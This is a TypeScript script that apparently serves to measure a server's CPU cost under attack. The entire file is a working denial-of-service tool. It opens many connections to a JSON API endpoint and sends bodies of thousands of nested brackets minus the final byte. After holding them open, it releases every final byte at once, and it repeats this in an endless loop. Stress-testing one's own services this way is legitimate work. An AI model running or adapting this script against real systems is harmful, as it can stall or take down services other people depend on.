import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setPriority } from 'node:os';
import { setTimeout as pause } from 'node:timers/promises';
import { reportCpu } from '../fan-out/report-cpu.ts';

/** Again and again opens connections that each send a body but for its last byte, and then all last bytes together. */
const [address = '', token = '', count = '0'] = process.argv.slice(2);
/** Twice this from one round to the next. A client has no more calls than one round in about eight seconds. */
const holdMs = 2500;
/** The first is the deepest that a call's size lets through, the second the one that stalled the house for seconds. */
const depths = [4000, 31_000];

async function hold(body: string): Promise<Socket> {
  const { hostname, port } = new URL(address);
  const socket = connect(Number(port), hostname);
  socket.on('error', () => undefined);
  socket.resume();
  await Promise.race([once(socket, 'connect'), once(socket, 'close')]);
  socket.write(
    `POST /api/sports/matchList HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n` +
      `Authorization: Bearer ${token}\r\nContent-Length: ${body.length}\r\n\r\n${body.slice(0, -1)}`,
  );
  return socket;
}

let finished = 0;
async function attack(depth: number): Promise<void> {
  const body = `{"a":${'['.repeat(depth)}${']'.repeat(depth)}}`;
  const sockets = await Promise.all(Array.from({ length: Number(count) }, () => hold(body)));
  await pause(holdMs);
  const open = sockets.filter((socket) => !socket.destroyed);
  for (const socket of open) socket.write(body.slice(-1));
  finished += open.length;
  await pause(holdMs);
  for (const socket of sockets) socket.destroy();
}

// What it costs its sender is no part of the figure: elsewhere that is another machine.
setPriority(19);
reportCpu({ count }, () => ({ finished }));
for (let round = 0; ; round += 1) await attack(depths[round % depths.length] ?? 0);
